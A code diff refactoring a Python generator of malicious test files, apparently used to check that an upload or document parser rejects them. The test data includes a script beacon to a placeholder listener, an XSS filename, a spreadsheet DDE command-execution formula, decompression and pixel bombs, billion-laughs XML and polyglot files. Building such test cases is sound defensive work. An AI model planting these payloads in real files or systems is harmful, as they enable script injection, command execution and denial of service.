@@ -8,19 +8,18 @@ from __future__ import annotations
 
 import io
 import struct
-import wave
 import zipfile
 import zlib
 from collections.abc import Callable, Iterable
 from functools import cache
 
 from docx import Document
-from openpyxl import Workbook
 from PIL import Image
 from pptx import Presentation
 from pypdf import PdfWriter
 from pypdf.actions import JavaScript
-from reportlab.pdfgen.canvas import Canvas
+
+from tools.made_files import png_chunk, png_that_says, printed, recording, saved, sheet
 
 MARK = "PWNED-4711"
 SCRIPT = f"<script>fetch('{{listener}}?{MARK}')</script>"
@@ -61,17 +60,6 @@ def _saved(form: str, size: tuple[int, int] = (320, 200), **options: object) -> 
     return out.getvalue()
 
 
-def _chunk(kind: bytes, data: bytes) -> bytes:
-    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
-
-
-def png_of(width: int, height: int, *more: tuple[bytes, bytes], rows: bytes = b"\0" * 1000) -> bytes:
-    """A PNG whose header says this size, with further chunks and these rows."""
-    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
-    chunks = [(b"IHDR", header), *more, (b"IDAT", zlib.compress(rows)), (b"IEND", b"")]
-    return b"\x89PNG\r\n\x1a\n" + b"".join(_chunk(kind, data) for kind, data in chunks)
-
-
 def _zip(entries: Iterable[tuple[str, bytes]]) -> bytes:
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
@@ -96,16 +84,16 @@ def _pictures() -> dict[str, Case]:
         "page-in-comment.jpg": (jpeg, ""),
         "archive-behind.png": (png + _zip([("run.sh", MARK.encode())]), ""),
         "document-in-text.png": (
-            png[:33] + _chunk(b"tEXt", b"Title\0%PDF-1.7 " + MARK.encode()) + png[33:],
+            png[:33] + png_chunk(b"tEXt", b"Title\0%PDF-1.7 " + MARK.encode()) + png[33:],
             "",
         ),
         "called-jpg.jpg": (_saved("WEBP"), ""),
-        "bad-profile.png": (png[:33] + _chunk(b"iCCP", profile) + png[33:], ""),
+        "bad-profile.png": (png[:33] + png_chunk(b"iCCP", profile) + png[33:], ""),
         "script-behind.gif": (_saved("GIF") + b";/*" + SCRIPT.encode() + b"*/", ""),
         "<img src=x onerror=alert(4711)>.png": (_saved("PNG", (200, 200)), ""),
-        "bomb.png": (png_of(50_000, 50_000), "million pixels"),
-        "long-bomb.png": (png_of(4_000_000, 30), "damaged|million pixels|line"),
-        "text-bomb.png": (png[:33] + _chunk(b"zTXt", text) + png[33:], "damaged"),
+        "bomb.png": (png_that_says(50_000, 50_000), "million pixels"),
+        "long-bomb.png": (png_that_says(4_000_000, 30), "damaged|million pixels|line"),
+        "text-bomb.png": (png[:33] + png_chunk(b"zTXt", text) + png[33:], "damaged"),
         "cut.png": (png[: len(png) // 2], "damaged"),
         "wrong-length.png": (png[:33] + struct.pack(">I", 2**31 - 1) + b"tEXtx", "damaged"),
         "says-large.jpg": (_jpeg_that_says(65_000, 65_000), "million pixels"),
@@ -160,10 +148,7 @@ def _drawings(listener: str) -> dict[str, Case]:
 
 
 def _pdf(finish: Callable[[PdfWriter], object] = lambda writer: None) -> bytes:
-    page = io.BytesIO()
-    canvas = Canvas(page)
-    canvas.drawString(72, 700, "Pumpkin soup 85 CZK")
-    canvas.save()
+    page = io.BytesIO(printed(["Pumpkin soup 85 CZK"]))
     writer = PdfWriter(clone_from=page)
     finish(writer)
     out = io.BytesIO()
@@ -191,18 +176,12 @@ def _pdf_bomb() -> bytes:
     )
 
 
-def _office(document: object) -> bytes:
-    out = io.BytesIO()
-    document.save(out)  # type: ignore[attr-defined]
-    return out.getvalue()
-
-
 def _docx(*changes: tuple[str, bytes]) -> bytes:
     """A document of Word's, with these parts instead of its own or beside them."""
     document = Document()
     document.add_paragraph("Pumpkin soup 85 CZK")
     parts = dict(changes)
-    with zipfile.ZipFile(io.BytesIO(_office(document))) as packed:
+    with zipfile.ZipFile(io.BytesIO(saved(document))) as packed:
         own = [(name, packed.read(name)) for name in packed.namelist() if name not in parts]
     return _zip([*own, *parts.items()])
 
@@ -213,11 +192,7 @@ def _word(declared: str, text: str) -> bytes:
 
 
 def _xlsx(listener: str) -> bytes:
-    book = Workbook()
-    assert book.active is not None
-    book.active.append(["Pumpkin soup", "85 CZK"])
-    book.active.append([f'=HYPERLINK("{listener}","{MARK}")', "=cmd|' /C calc'!A0"])
-    return _office(book)
+    return sheet(("Pumpkin soup", "85 CZK"), (f'=HYPERLINK("{listener}","{MARK}")', "=cmd|' /C calc'!A0"))
 
 
 def _documents(listener: str) -> dict[str, Case]:
@@ -249,7 +224,7 @@ def _documents(listener: str) -> dict[str, Case]:
         "laughs.docx": (_docx(("word/document.xml", _word(laughs, "&j;"))), "damaged|no text|too long"),
         "bomb.docx": (_docx(("word/media/a.xml", b"0" * 200_000_000)), "unpacks"),
         "bomb.xlsx": (_zip([("xl/workbook.xml", b"<a/>"), ("xl/a.xml", b"0" * 200_000_000)]), "unpacks"),
-        "empty.pptx": (_office(Presentation()), "no text"),
+        "empty.pptx": (saved(Presentation()), "no text"),
         "cut.docx": (_docx()[:3000], "no document"),
         "old.doc": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(900), "no document"),
     }
@@ -266,11 +241,7 @@ def _deep_zip() -> bytes:
 
 
 def _wave_that_lies() -> bytes:
-    out = io.BytesIO()
-    with wave.open(out, "wb") as sound:
-        sound.setparams((1, 2, 16_000, 0, "NONE", ""))
-        sound.writeframes(bytes(320))
-    data = bytearray(out.getvalue())
+    data = bytearray(recording(bytes(320)))
     data[40:44] = b"\xff\xff\xff\x7f"
     return bytes(data)
 
